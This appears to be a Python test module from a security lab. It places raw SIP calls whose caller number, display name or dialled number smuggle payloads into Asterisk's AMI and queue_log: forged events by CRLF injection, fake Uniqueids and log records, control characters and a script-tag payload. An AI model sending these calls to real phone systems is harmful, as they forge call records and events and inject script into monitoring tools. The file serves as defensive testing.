"""Callers whose data attacks AMI, queue_log and whoever reads them, by raw SIP.

Law: the forged messages are well formed: Event, Privilege, Timestamp in the right order. Asterisk keeps 79 bytes of a
caller's number or of the dialled number, so a forged event is short and borrows its last fields
(Uniqueid too) from the real one.
"""

import time
from urllib.parse import quote

from lab.place import SIP_PORT, Place
from lab.sip import RawCall

MARK = "forged"  # in forged values: whoever finds it in state or figures has been fooled
OTHER_CALL = "1700000000.1"  # a Uniqueid that no real call has


def escaped(text: str) -> bytes:
    """For the user part of a SIP address: everything but letters and digits percent-encoded."""
    return quote(text, safe="").encode()


def prologue(event: str, privilege: str) -> str:
    """A blank line and how a live event begins."""
    return f"\r\n\r\nEvent: {event}\r\nPrivilege: {privilege},all\r\nTimestamp: {time.time():.6f}"


def in_number() -> dict[str, str]:
    """What stands in the caller's number, by attack. Each begins with digits of its own."""
    second = int(time.time())
    return {
        "hangup_event": "91001" + prologue("Hangup", "call"),
        "agent_dump_event": "91002" + prologue("AgentDump", "agent"),
        "abandon_event": "91012\r\n\r\nEvent: QueueCallerAbandon\r\nPrivilege: agent,all\r\nQueue: hotline",
        "complete_event": "91003\r\n\r\nEvent: Shutdown\r\nPrivilege: system,all\r\nRestart: False\r\n\r\nA: b",
        "event_without_privilege": "91004\r\n\r\nEvent: FullyBooted\r\nUptime: 1\r\nStatus: Fully Booted\r\n\r\n",
        "response": "91005\r\n\r\nResponse: Goodbye\r\nMessage: Thanks for all the fish.\r\n\r\n",
        "second_uniqueid": f"91006\r\nQueue: {MARK}\r\nUniqueid: {OTHER_CALL}",
        "bare_line_feeds": f"91007\n\nEvent: {MARK}\n\n",
        "bare_carriage_returns": f"91008\r\rEvent: {MARK}\r\r",
        "log_record": f"91009\n{second}|{OTHER_CALL}|hotline|{MARK}|CONNECT|9|1700000000.3|1\n",
        "log_column": f"91010|{MARK}|x",
        "control_characters": "91011\x01\x07\x1b[2J\x7f\x00",
    }


def in_name() -> dict[str, bytes]:
    """What stands in the caller's display name, by attack."""
    return {
        "escaped_event_in_name": prologue("QueueCallerAbandon", "agent").replace("\r\n", "\\r\\n").encode(),
        "long_name": b"A" * 10_240,
        "invalid_utf8_in_name": b"\xff\xfe\xc0\xaf\xed\xa0\x80",
        "markup_in_name": f"<script>alert('{MARK}')</script>".encode(),
    }


def attacks(host: str, dialled: str) -> dict[str, tuple[bytes, bytes]]:
    """Dialled user part and From header (without tag) by name of the attack."""
    to, at = dialled.encode(), b"@" + host.encode() + b">"
    found = {name: (to, b"<sip:" + escaped(number) + at) for name, number in in_number().items()}
    for i, (name, text) in enumerate(in_name().items()):
        found[name] = (to, b'"' + text + b'" <sip:%d' % (91021 + i) + at)
    found["no_number"] = (to, b"<sip:" + host.encode() + b">")
    found["event_in_dialled"] = (escaped(dialled + prologue("Hangup", "call")), b"<sip:91031" + at)
    uniqueid = f"\r\nUniqueid: {OTHER_CALL}\r\nLinkedid: {OTHER_CALL}"
    found["uniqueid_in_dialled"] = (escaped(dialled + uniqueid), b"<sip:91032" + at)
    return found


def place_hostile(place: Place, dialled: str = "12345", stay: float = 2.5) -> dict[str, int]:
    """Place all hostile calls at once, for `stay` s after the PBX's last answer; SIP status of each by name.

    Raises NoAnswerError.
    """
    found = attacks(place.hostile_host, dialled)
    calls = {name: RawCall(place.hostile_host, place.pbx_host, SIP_PORT, *parts) for name, parts in found.items()}
    try:
        codes = {name: call.wait_final(40) for name, call in calls.items()}
        time.sleep(stay)
    finally:
        for call in calls.values():
            call.close()
    return codes
